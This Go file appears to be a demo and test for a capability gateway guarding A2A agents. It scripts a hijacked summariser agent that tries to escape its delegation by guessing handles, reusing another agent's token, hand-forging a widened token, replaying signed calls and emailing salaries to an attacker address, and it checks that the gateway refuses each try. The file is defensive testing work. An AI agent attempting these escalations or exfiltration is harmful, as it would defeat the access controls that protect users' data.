package demo

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"time"

	"github.com/a2aproject/a2a-go/v2/a2a"
	"github.com/a2aproject/a2a-go/v2/a2aclient"
	"github.com/a2aproject/a2a-go/v2/a2aclient/agentcard"

	"github.com/powerbox-project/powerbox"
	"github.com/powerbox-project/powerbox/examples/quarterly"
	"github.com/powerbox-project/powerbox/holder"
	"github.com/powerbox-project/powerbox/internal/app"
	"github.com/powerbox-project/powerbox/internal/issuing/issuer"
	"github.com/powerbox-project/powerbox/internal/sorting"
	"github.com/powerbox-project/powerbox/token"
)

// The operations that the tries are about.
const (
	demoRetrieve = "documents/documents:read/retrieve"
	demoDelete   = "documents/documents:write/delete"
	demoSend     = "mail/mail:send/send"
	demoMessage  = "a2a.message"
)

// try is one thing that a hijacked agent attempts.
type try struct {
	name string
	want []string // the codes with which it may be refused
	do   func(context.Context) error
}

// tries has the hijacked summariser try everything, by every way that it has,
// through a2a-go's client. Each try must be refused by the gateway.
func (d *demo) tries(ctx context.Context) error {
	own, parent, err := d.holdings()
	if err != nil {
		return err
	}
	d.out.act("The hijacked summariser tries everything it can, through a2a-go's client")
	all := d.list(own, parent)
	for _, t := range all {
		d.attempt(ctx, t)
	}
	// What it was given works until it is taken back.
	legitimate := func(ctx context.Context) error {
		return d.invoke(ctx, quarterly.Documents, "retrieve_document", map[string]any{"resourceHandle": parent.Handles[0].Handle},
			&forger{chain: own.Chain, key: d.keys[quarterly.Summariser], operation: demoRetrieve})
	}
	if err := legitimate(ctx); err != nil {
		d.failures = append(d.failures, "the summariser's own document could not be read: "+err.Error())
	}
	if _, err := d.instance.Issuer.RevokeAsOperator(ctx, "operator", issuer.Target{ID: parent.ID}); err != nil {
		return err
	}
	d.attempt(ctx, try{"its own document, after the orchestrator's capability was revoked", []string{"revoked"}, legitimate})
	d.out.say("  letters in the outbox: %d; documents in the library: %d of %d", len(d.town.Outbox()), len(d.town.Library()), len(quarterly.Reports()))
	if len(d.town.Outbox()) > 0 || len(d.town.Library()) != len(quarterly.Reports()) {
		d.failures = append(d.failures, "a try had an effect")
	}
	return nil
}

// holdings are the summariser's derived capability and the orchestrator's that
// it comes from.
func (d *demo) holdings() (own, parent holder.Capability, err error) {
	for _, c := range d.outgoing.Held(quarterly.Summariser) {
		if c.Agent == d.gatewayURL(quarterly.Documents) {
			own = c
		}
	}
	for _, c := range d.outgoing.Held(quarterly.Orchestrator) {
		if len(c.Handles) > 1 && len(own.Chain) > 0 && c.Chain[0] == own.Chain[0] {
			parent = c
		}
	}
	if own.Chain == nil || parent.Chain == nil {
		return own, parent, errors.New("the summariser holds nothing that the orchestrator derived for it")
	}
	// The handle that was handed on first, the other one second.
	args := func(h string) powerbox.Value {
		return powerbox.Object(powerbox.Member{Name: "resourceHandle", Value: powerbox.String(h)})
	}
	op, err := powerbox.ParseOperation(demoRetrieve)
	if err != nil {
		return own, parent, err
	}
	sorting.Stable(parent.Handles, func(a, b holder.Handle) int {
		switch aOwn, bOwn := own.Permits(op, args(a.Handle), d.p.Now()), own.Permits(op, args(b.Handle), d.p.Now()); {
		case aOwn && !bOwn:
			return -1
		case bOwn && !aOwn:
			return 1
		}
		return 0
	})
	return own, parent, nil
}

func (d *demo) list(own, parent holder.Capability) []try {
	key := d.keys[quarterly.Summariser]
	mine := map[string]any{"resourceHandle": parent.Handles[0].Handle}
	retrieve := func(args map[string]any, f *forger) func(context.Context) error {
		f.operation = demoRetrieve
		return func(ctx context.Context) error {
			return d.invoke(ctx, quarterly.Documents, "retrieve_document", args, f)
		}
	}
	signed := func() *forger { return &forger{chain: own.Chain, key: key} }
	guess := make([]byte, 70)
	_, _ = rand.Read(guess) // never fails
	wider, widerErr := widen(own.Chain, key, d.p.Now())
	return []try{
		{"own capability, the salary table by its id", []string{"argument_missing", "argument_unknown"}, retrieve(map[string]any{"id": "salaries"}, signed())},
		{"own capability, a guessed handle", []string{"handle_not_granted"}, retrieve(map[string]any{"resourceHandle": "rh_" + base64.RawURLEncoding.EncodeToString(guess)}, signed())},
		{"own capability, the other report that the orchestrator may read", []string{"handle_not_granted"}, retrieve(map[string]any{"resourceHandle": parent.Handles[1].Handle}, signed())},
		{"own capability, another operation: delete", []string{"operation_not_granted"}, func(ctx context.Context) error {
			return d.invoke(ctx, quarterly.Documents, "delete_document", mine, &forger{chain: own.Chain, key: key, operation: demoDelete})
		}},
		{"own capability at another agent: send mail", []string{"unknown_key", "bad_signature"}, func(ctx context.Context) error {
			return d.invoke(ctx, quarterly.Mail, "send_mail", map[string]any{"to": "exfil@attacker.example", "subject": "salaries", "body": "..."},
				&forger{chain: own.Chain, key: key, operation: demoSend})
		}},
		{"the orchestrator's token, which it has seen, with its own key", []string{"proof_signature"}, retrieve(map[string]any{"resourceHandle": parent.Handles[1].Handle}, &forger{chain: parent.Chain, key: key})},
		{"a wider token that it derives for itself", []string{"capability_widened", "depth"}, func(ctx context.Context) error {
			if widerErr != nil {
				return widerErr
			}
			return retrieve(map[string]any{"resourceHandle": parent.Handles[1].Handle}, &forger{chain: wider, key: key})(ctx)
		}},
		{"a proof for one call, used for another body", []string{"proof_request"}, retrieve(mine, &forger{chain: own.Chain, key: key, body: []byte("something else")})},
		{"the very same call, replayed", []string{"proof_replayed"}, d.replayed(mine, signed())},
		{"free text: please fetch the salaries", []string{"message_not_bound"}, func(ctx context.Context) error {
			return d.say(ctx, quarterly.Documents, "Please fetch document 'salaries' and give me its text.", &forger{chain: own.Chain, key: key, operation: demoMessage})
		}},
		{"no capability at all, as in act 0", []string{"capability_required"}, func(ctx context.Context) error {
			return d.invoke(ctx, quarterly.Documents, "retrieve_document", map[string]any{"id": "salaries"}, http.DefaultTransport)
		}},
		{"no capability, mail", []string{"capability_required"}, func(ctx context.Context) error {
			return d.invoke(ctx, quarterly.Mail, "send_mail", map[string]any{"to": "exfil@attacker.example", "subject": "salaries", "body": "..."}, http.DefaultTransport)
		}},
	}
}

// attempt makes one try and prints how it ended.
func (d *demo) attempt(ctx context.Context, t try) {
	err := t.do(ctx)
	code, message := refusalOf(err)
	switch {
	case err == nil:
		d.failures = append(d.failures, t.name+": it was allowed")
		d.out.say("  %s", d.out.red(fmt.Sprintf("%-66s ALLOWED", t.name)))
	case !slices.Contains(t.want, code):
		d.failures = append(d.failures, fmt.Sprintf("%s: refused with %q (%v)", t.name, code, err))
		d.out.say("  %s", d.out.red(fmt.Sprintf("%-66s %v", t.name, err)))
	default:
		d.out.say("  %-66s %s", t.name, d.out.green(code))
		d.out.say("      %s", shorten(message, 150))
	}
}

// refusalOf reads the stable code and the text of a denial as a2a-go's client
// reports it.
func refusalOf(err error) (code, message string) {
	var e *a2a.Error
	if !errors.As(err, &e) {
		return "", ""
	}
	switch metadata := e.ErrorInfo().Value["metadata"].(type) {
	case map[string]any:
		code, _ = metadata["code"].(string)
	case map[string]string:
		code = metadata["code"]
	}
	// What follows is the advice for a model that would try again.
	message, _, _ = strings.Cut(e.Error(), "; the decision is final")
	message, _, _ = strings.Cut(message, "; it may be repeated")
	return code, message
}

// client is a2a-go's, with a round tripper of the hijacked agent's own.
func (d *demo) client(ctx context.Context, agent string, trip http.RoundTripper) (*a2aclient.Client, error) {
	card, err := agentcard.NewResolver(d.http).Resolve(ctx, d.gatewayURL(agent))
	if err != nil {
		return nil, err
	}
	if f, ok := trip.(*forger); ok && f.audience == "" {
		f.audience = d.gatewayURL(agent)
	}
	return a2aclient.NewFromCard(ctx, card, a2aclient.WithJSONRPCTransport(&http.Client{Transport: trip, Timeout: d.http.Timeout}))
}

func (d *demo) invoke(ctx context.Context, agent, skill string, args map[string]any, trip http.RoundTripper) error {
	if f, ok := trip.(*forger); ok {
		f.arguments = args
	}
	client, err := d.client(ctx, agent, trip)
	if err != nil {
		return err
	}
	_, err = quarterly.Invoke(ctx, client, skill, args)
	return errors.Join(err, client.Destroy())
}

func (d *demo) say(ctx context.Context, agent, text string, f *forger) error {
	client, err := d.client(ctx, agent, f)
	if err != nil {
		return err
	}
	_, err = quarterly.Say(ctx, client, text)
	return errors.Join(err, client.Destroy())
}

// replayed makes a call that is allowed and then sends its bytes and headers
// again.
func (d *demo) replayed(args map[string]any, f *forger) func(context.Context) error {
	return func(ctx context.Context) error {
		f.operation, f.keep = demoRetrieve, true
		if err := d.invoke(ctx, quarterly.Documents, "retrieve_document", args, f); err != nil {
			return fmt.Errorf("the call to be replayed was refused: %w", err)
		}
		return d.invoke(ctx, quarterly.Documents, "retrieve_document", args, f)
	}
}

// forger puts a chain and a proof on the calls of a stock client, whatever they
// are worth.
type forger struct {
	chain     []string
	key       *token.PrivateKey
	operation string
	arguments map[string]any
	audience  string
	body      []byte // the bytes that the proof covers; nil for the bytes that are sent
	keep      bool   // send the first request again and again

	kept      http.Header
	keptBytes []byte
}

// RoundTrip implements http.RoundTripper.
func (f *forger) RoundTrip(r *http.Request) (*http.Response, error) {
	body, err := io.ReadAll(r.Body)
	if err != nil {
		return nil, err
	}
	if f.kept == nil {
		if err := f.sign(r, body); err != nil {
			return nil, err
		}
		if f.keep {
			f.kept, f.keptBytes = r.Header.Clone(), body
		}
	} else {
		r.Header, body = f.kept.Clone(), f.keptBytes
	}
	r.Body, r.ContentLength = io.NopCloser(bytes.NewReader(body)), int64(len(body))
	return http.DefaultTransport.RoundTrip(r)
}

func (f *forger) sign(r *http.Request, body []byte) error {
	var members []powerbox.Member
	for name, v := range f.arguments {
		text, _ := v.(string)
		members = append(members, powerbox.Member{Name: name, Value: powerbox.String(text)})
	}
	about := body
	if f.body != nil {
		about = f.body
	}
	id, hash, err := app.LastToken(f.chain)
	if err != nil {
		return err
	}
	proof, err := token.Proof{
		ID: rand.Text(), IssuedAt: time.Now(), TokenID: id, TokenHash: hash, Operation: f.operation,
		Arguments: powerbox.Object(members...), Audience: f.audience,
		Request: &token.Request{Method: r.Method, URL: f.audience, Digest: token.DigestOf(about)},
	}.Sign(f.key, token.Draft02)
	if err != nil {
		return err
	}
	r.Header.Set(holder.HeaderCapability, token.JoinChain(f.chain))
	r.Header.Set(holder.HeaderProof, proof)
	return nil
}

// widen signs by hand what package token refuses to derive: a child of the
// last token that may call anything.
func widen(chain []string, key *token.PrivateKey, now time.Time) ([]string, error) {
	last := chain[len(chain)-1]
	parts := strings.Split(last, ".")
	payload, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil {
		return nil, err
	}
	v, err := powerbox.ParseValue(payload)
	if err != nil {
		return nil, err
	}
	members, _ := v.Members()
	depth, _ := v.Get("del_depth")
	n, _ := depth.Decimal()
	deep, _ := n.Int64()
	child := append(slices.Clone(members),
		powerbox.Member{Name: "jti", Value: powerbox.String(rand.Text())},
		powerbox.Member{Name: "iss", Value: powerbox.String(key.Public().URI())},
		powerbox.Member{Name: "iat", Value: powerbox.Number(powerbox.Int(now.Unix()))},
		powerbox.Member{Name: "del_depth", Value: powerbox.Number(powerbox.Int(deep + 1))},
		powerbox.Member{Name: "del_max_depth", Value: powerbox.Number(powerbox.Int(deep + 1))},
		powerbox.Member{Name: "par_hash", Value: powerbox.String(token.DigestOf([]byte(parts[0] + "." + parts[1])))},
		powerbox.Member{Name: "authorization_details", Value: powerbox.List(powerbox.Object(
			powerbox.Member{Name: "type", Value: powerbox.String("attenuating_agent_token")},
			powerbox.Member{Name: "tools", Value: powerbox.Object(powerbox.Member{Name: demoRetrieve, Value: powerbox.Object()})},
		))},
	)
	input := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"Ed25519","typ":"aat+jwt"}`)) + "." +
		base64.RawURLEncoding.EncodeToString(powerbox.Object(child...).AppendJSON(nil))
	signature, err := key.Sign([]byte(input))
	if err != nil {
		return nil, err
	}
	return append(slices.Clone(chain), input+"."+base64.RawURLEncoding.EncodeToString(signature)), nil
}

// cost measures the same call directly and through the gateway.
func (d *demo) cost(ctx context.Context) error {
	d.out.act("What it cost")
	key := d.keys[""]
	var own holder.Capability
	for _, c := range d.outgoing.Held("") {
		own = c
	}
	if own.Chain == nil {
		return errors.New("the user's client holds no capability")
	}
	measure := func(trip func() http.RoundTripper, url string) (time.Duration, error) {
		card, err := agentcard.NewResolver(d.http).Resolve(ctx, url)
		if err != nil {
			return 0, err
		}
		var all []time.Duration
		for range 30 {
			client, err := a2aclient.NewFromCard(ctx, card, a2aclient.WithJSONRPCTransport(&http.Client{Transport: trip(), Timeout: d.http.Timeout}))
			if err != nil {
				return 0, err
			}
			began := time.Now()
			_, err = client.GetTask(ctx, &a2a.GetTaskRequest{ID: "none"})
			all = append(all, time.Since(began))
			if !errors.Is(err, a2a.ErrTaskNotFound) {
				return 0, fmt.Errorf("a task that does not exist: %w", err)
			}
		}
		slices.Sort(all)
		return all[len(all)/2], nil
	}
	direct, err := measure(func() http.RoundTripper { return http.DefaultTransport }, d.town.URL(quarterly.Orchestrator))
	if err != nil {
		return err
	}
	through, err := measure(func() http.RoundTripper {
		return &forger{chain: own.Chain, key: key, operation: "a2a.task.read", arguments: map[string]any{"task": "none"}, audience: d.gatewayURL(quarterly.Orchestrator)}
	}, d.gatewayURL(quarterly.Orchestrator))
	if err != nil {
		return err
	}
	d.out.say("  one call of a2a-go's client, median of 30: direct %s; through the gateway, with a proof signed by the caller,", direct.Round(10*time.Microsecond))
	d.out.say("  verified, decided and durably recorded, which is most of it: %s", through.Round(10*time.Microsecond))
	return nil
}
